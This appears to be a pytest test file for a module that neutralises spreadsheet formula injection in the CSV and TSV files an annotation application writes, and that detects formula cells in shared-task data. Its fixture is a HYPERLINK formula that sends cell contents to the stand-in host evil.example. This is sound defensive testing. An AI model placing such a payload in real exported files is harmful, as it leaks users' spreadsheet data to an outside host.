"""The cells of every CSV and TSV file the application writes (annotator/core/csv_cells.py): a cell a
spreadsheet would run as a formula gets a single quote before it, numbers stay numbers, the shared tasks' own
files keep their bytes and have their formula cells named, and what the application reads back loses the quote."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.analysis.reports import Report, Table
from annotator.core.csv_cells import (
    SheetWriter,
    csv_text,
    formula_cells,
    neutralised,
    restored,
    write_csv,
    write_frame,
    write_official_frame,
)
from tests.conftest import SHARED_DATA

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Invoice")'


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tfoo", "\rfoo", "-", "@"])
def test_a_cell_starting_with_a_formula_character_gets_a_quote_before_it(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", [" =1+1", "  @SUM(A1)", '"=1+1"', "'=1+1", "\u00a0-cmd", "\ufeff=1"])
def test_a_formula_after_leading_blanks_or_quotes_gets_a_quote_too(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.25", "-1", "+3", "-1e-05", "-.5", "0.25", "-12.", "1E+3"])
def test_a_plain_number_stays_as_it_is(cell):
    assert neutralised(cell) == cell


@pytest.mark.parametrize("cell", ["-1+1", "-0x10", "-inf", "-1,5", "-1 ", "-١"])  # the last: an Arabic-Indic one
def test_what_only_looks_like_a_number_is_quoted(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "a-b", "x = y", "e-mail me@example.org", "", "1-2"])
def test_a_cell_with_formula_characters_only_inside_is_left_alone(cell):
    assert neutralised(cell) == cell


def test_a_part_after_a_semicolon_tab_or_line_break_inside_a_csv_cell_is_quoted():
    assert neutralised("x;=cmd") == "x;'=cmd"
    assert neutralised("x\t@cmd") == "x\t'@cmd"
    assert neutralised("first line\n- second line") == "first line\n'- second line"
    assert neutralised("a, -1 and; -0.5") == "a, -1 and; -0.5"   # numbers after a separator stay numbers


def test_the_files_own_delimiter_inside_a_cell_is_left_to_the_quoting():
    # In a CSV a cell holding a comma is quoted, and a reader splitting at commas honours that; in a TSV the
    # comma is another separator, and the tab is the file's own.
    assert neutralised("thanks, @ann") == "thanks, @ann"
    assert neutralised("thanks, @ann", "\t") == "thanks,' @ann"
    assert neutralised("x\t=cmd", "\t") == "x\t=cmd"


def test_the_exact_bytes_of_a_written_row():
    text = csv_text(["item", "score", "answer"], [["S_1", -0.25, HYPERLINK], ["-0.25", 3, "-1"], ["@a", None, "ok"]])
    assert text.encode("utf-8") == (
        b'item,score,answer\n'
        b'S_1,-0.25,"\'=HYPERLINK(""http://evil.example/?d=""&B2&C2,""Invoice"")"\n'
        b'-0.25,3,-1\n'
        b"'@a,,ok\n")


def test_a_frame_keeps_its_numeric_columns_and_quotes_its_text(tmp_path):
    frame = pd.DataFrame({"=name": ["=x", "plain", None], "score": [-0.25, 1.5, float("nan")],
                          "votes": pd.array([-1, 2, None], dtype="Int64")})
    path = write_frame(frame, tmp_path / "f.csv", lineterminator="\n")
    assert path.read_bytes() == b"'=name,score,votes\n'=x,-0.25,-1\nplain,1.5,2\n,,\n"


def test_a_categorical_text_column_is_quoted_too(tmp_path):
    frame = pd.DataFrame({"item": pd.Categorical(["@a", "b", "@a"]), "label": pd.Categorical([-1, 0, 1])})
    path = write_frame(frame, tmp_path / "f.csv", lineterminator="\n")
    assert path.read_bytes() == b"item,label\n'@a,-1\nb,0\n'@a,1\n"


def test_a_tsv_frame_is_quoted_for_its_own_separator(tmp_path):
    frame = pd.DataFrame({"text": ["- dash", "a, @b"], "n": [1, 2]})
    path = write_frame(frame, tmp_path / "f.tsv", sep="\t", lineterminator="\n")
    assert path.read_bytes() == b"text\tn\n'- dash\t1\na,' @b\t2\n"


def test_the_sheet_writer_writes_numbers_as_numbers():
    out = io.StringIO()
    SheetWriter(out).writerow([-1, -0.5, "-x", True])
    assert out.getvalue() == "-1,-0.5,'-x,True\n"


@given(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n;,'\"0.1eaxX\u00a0")), max_size=12),
       st.sampled_from([",", "\t"]))
def test_reading_back_what_was_written_gives_the_text_as_it_was(text, delimiter):
    assert restored(neutralised(text, delimiter), delimiter) == text


@given(st.text(max_size=30), st.sampled_from([",", "\t"]))
def test_reading_back_any_text_gives_it_as_it_was(text, delimiter):
    assert restored(neutralised(text, delimiter), delimiter) == text


def test_written_then_read_with_the_csv_module_and_restored_gives_the_rows(tmp_path):
    rows = [[HYPERLINK, "-0.25", "x;=y", "'=quoted already", "line\n+one"]]
    path = write_csv(tmp_path / "r.csv", ["a", "b", "c", "d", "e"], rows)
    with path.open(encoding="utf-8", newline="") as source:
        read = list(csv.reader(source))
    assert [[restored(c) for c in row] for row in read[1:]] == rows


def test_an_official_frame_keeps_its_bytes(tmp_path):
    frame = pd.DataFrame([["arg_1_0", HYPERLINK, "-1"]], columns=["arg_id", "argument", "stance"], dtype=str)
    path = write_official_frame(frame, tmp_path / "arguments_dev.csv", index=False, lineterminator="\n")
    assert path.read_bytes() == (b'arg_id,argument,stance\n'
                                 b'arg_1_0,"=HYPERLINK(""http://evil.example/?d=""&B2&C2,""Invoice"")",-1\n')


def test_formula_cells_of_a_csv_are_named_by_line_and_header_column(tmp_path):
    path = tmp_path / "arguments_dev.csv"
    path.write_text('arg_id,argument,stance\na1,"two\nlines",-1\na2,"=1+1",1\na3,@x,-1\n', encoding="utf-8")
    found = formula_cells(path)
    assert [(c.file, c.line, c.row, c.column, c.text) for c in found] == [
        ("arguments_dev.csv", 4, 3, "argument", "=1+1"), ("arguments_dev.csv", 5, 4, "argument", "@x")]
    assert str(found[0]) == 'arguments_dev.csv, line 4, column argument: "=1+1"'


def test_formula_cells_of_a_token_file_are_named_by_column_number(tmp_path):
    path = tmp_path / "dev.txt"
    path.write_text('\nS1_1\t"\t0|0|9\nS1_2\t--\t1|0|8\n\n', encoding="utf-8")   # a lone quote token: no quoting
    assert [(c.line, c.column, c.text) for c in formula_cells(path)] == [(3, "2", "--")]


def test_formula_cells_of_json_lines_are_named_by_key(tmp_path):
    path = tmp_path / "Task_1_dev.jsonl"
    lines = [{"article": "text", "question": "@placeholder is", "label": 0},
             {"article": "=cmd", "question": "a @placeholder", "option_0": "-x"}]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    assert [(c.line, c.column) for c in formula_cells(path)] == [(1, "question"), (2, "article"), (2, "option_0")]


def test_other_files_have_no_formula_cells(tmp_path):
    path = tmp_path / "report.json"
    path.write_text('{"a": "=1+1"}', encoding="utf-8")
    assert formula_cells(Path(path)) == []


def test_a_reports_table_file_quotes_a_system_named_like_a_formula(tmp_path):
    report = Report("Systems by mAP", [Table("map", "mAP per system", ["system", "strict", "rank"],
                                             [["@evil", -0.25, 1], ["alpha", 0.5, None]])])
    paths = report.write(tmp_path)
    assert (tmp_path / "map.csv").read_bytes() == b"system,strict,rank\n'@evil,-0.25,1\nalpha,0.5,\n"
    assert json.loads(paths[-1].read_text("utf-8"))["tables"][0]["rows"][0]["system"] == "@evil"


@pytest.mark.shared_data
@pytest.mark.parametrize(("file", "count"), [
    ("kpa2021/kpm_data/arguments_train.csv", 0), ("kpa2021/kpm_data/key_points_train.csv", 0),
    ("kpa2021/test_data/arguments_test.csv", 0),
    ("emphasis2020/train_dev_data/train.txt", 84), ("emphasis2020/train_dev_data/dev.txt", 14),
    ("ruarg2022/data/train.tsv", 36),
    ("recam2021/data/trail_data/Task_1_Imperceptibility.jsonl", 12),
    ("recam2021/data/trail_data/Task_2_Nonspecificity.jsonl", 13),
    ("recam2021/data/trail_data/Task_3_Intersection.jsonl", 7)])
def test_the_formula_cells_of_the_shared_tasks_files_are_those_docs_csv_cells_counts(file, count):
    assert len(formula_cells(SHARED_DATA / file)) == count
